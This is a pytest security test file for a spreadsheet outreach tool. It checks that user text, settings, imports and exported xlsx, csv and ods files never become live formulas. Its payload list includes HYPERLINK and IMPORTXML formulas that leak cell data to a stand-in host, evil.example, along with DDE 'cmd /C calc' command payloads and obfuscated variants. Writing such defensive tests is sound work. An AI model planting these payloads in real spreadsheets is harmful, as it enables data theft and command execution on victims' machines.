"""Formula injection (CWE-1236): text of anybody's stays text, in the sheet and in every file that leaves it."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from sheets_outreach.jobs.importing import export_workbook, import_file
from sheets_outreach.localsheets import LocalServer
from sheets_outreach.localsheets.model.cells import unpack
from sheets_outreach.register.columns import Tab
from tests.reliability.judges import texts
from tests.reliability.library import Letterbox, open_door
from tests.security.everywhere import Refusing, fill, run_everything, text_columns

CORPUS = (
    '=HYPERLINK("https://evil.example/?"&A1;"Откройте")',
    '=IMPORTXML("https://evil.example";"//a")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "%0A=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    " =1+1",
    "=\u0441\u0443\u043c\u043c(1;1)",
)


def formulas(server: LocalServer, identity: str) -> list[str]:
    """Give every formula that stands in a workbook but the ones of the charts' own tab."""
    sheets = server.core.document(identity).workbook.sheets
    known = {"Сообщества", "Дневник", "Анонсы", "Получатели", "Настройки", "Журнал", "Статистика", "План", "Поиск"}
    return [
        f"{sheet.title}: {cell.formula}"
        for sheet in sheets
        if sheet.title in known
        for row in sheet.grid.rows()
        for cell in map(unpack, row)
        if cell.formula is not None
    ]


def test_no_job_makes_a_formula_of_what_anybody_wrote(server: LocalServer) -> None:
    """Every payload in every people's column of every tab, judged by what is stored after all jobs have run."""
    columns = text_columns()

    def shifted(tab: Tab, key: str, row: int) -> str:
        place = columns.index((tab, key)) if (tab, key) in columns else 0
        return CORPUS[(row + place) % len(CORPUS)]

    identity = fill(server, shifted, rows=len(CORPUS))
    box = Letterbox()
    run_everything(server, identity, box)
    assert formulas(server, identity) == []
    assert box.mails


@pytest.mark.parametrize("payload", CORPUS[:3], ids=ascii)
def test_neither_settings_nor_a_mail_server_bring_a_formula(server: LocalServer, payload: str) -> None:
    """What they say is written into our own cells: searches, states, job lines."""
    settings = {"Название библиотеки": payload, "Места рядом": payload}
    identity = fill(server, lambda _tab, _key, _row: "слово", settings=settings)
    run_everything(server, identity, Refusing(payload))
    assert formulas(server, identity) == []
    shown = str(
        [texts(server.core, identity, sheet.sheet_id) for sheet in server.core.document(identity).workbook.sheets]
    )
    assert shown.count(payload[:3]) > 2


def test_every_formula_that_setup_writes_is_its_own(server: LocalServer) -> None:
    """Rules, drop-downs and charts hold no word of people's, though titles and names are hostile."""
    mark = "EVILMARK"
    identity = fill(server, lambda _tab, _key, _row: f'=HYPERLINK("{mark}")', settings={"Название библиотеки": mark})
    run_everything(server, identity, Refusing("no"))
    for sheet in server.core.document(identity).workbook.sheets:
        for name in ("conditionalFormats", "charts", "filterViews", "protectedRanges"):
            assert mark not in str(sheet.listed(name)), (sheet.title, name)
        assert mark not in str([unpack(slot).validation for row in sheet.grid.rows() for slot in row])


@pytest.mark.parametrize("ending", ["xlsx", "csv", "ods"])
def test_no_file_that_leaves_holds_a_formula(server: LocalServer, tmp_path: Path, ending: str) -> None:
    """All payloads, after all jobs have run; judged by what other programs make of the file."""
    identity = fill(server, lambda _tab, _key, row: CORPUS[row % len(CORPUS)], rows=len(CORPUS))
    run_everything(server, identity, Refusing(CORPUS[0]))
    path = tmp_path / f"out.{ending}"
    export_workbook(open_door(server, identity), path)
    if ending == "csv":
        rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=_delimiter(path))
        cells = [cell for row in rows for cell in row]
        assert len(cells) > 100
        assert not [cell for cell in cells if cell.lstrip(" ")[:1] in {*"=+-@＝＋－＠\t\r\n"} and cell.strip()]
    elif ending == "xlsx":
        book = openpyxl.load_workbook(path)
        kinds = [
            cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None
        ]
        assert len(kinds) > 100
        assert "f" not in kinds
    else:
        with zipfile.ZipFile(path) as packed:
            content = packed.read("content.xml").decode()
        assert CORPUS[2] in content
        assert "table:formula" not in content


def _delimiter(path: Path) -> str:
    return ";" if ";" in path.read_text(encoding="utf-8-sig").splitlines()[0] else ","


def test_a_file_that_comes_in_brings_no_formula(server: LocalServer, tmp_path: Path) -> None:
    """Every payload in every column of a file that somebody imports."""
    path = tmp_path / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["Название", "Ссылка", "Специализация", "Предложение", "Договоренности", "Админ"])
        for number, payload in enumerate(CORPUS):
            writer.writerow(
                [f"{payload}{number}", f"https://vk.com/club{number + 1}", payload, payload, payload, payload]
            )
    identity = fill(server, lambda _tab, _key, _row: "", rows=1)
    import_file(open_door(server, identity), path)
    assert formulas(server, identity) == []
    stored = [
        unpack(slot).value for row in server.core.document(identity).workbook.sheets[0].grid.rows() for slot in row
    ]
    assert sum("cmd|" in str(value) for value in stored) >= 3
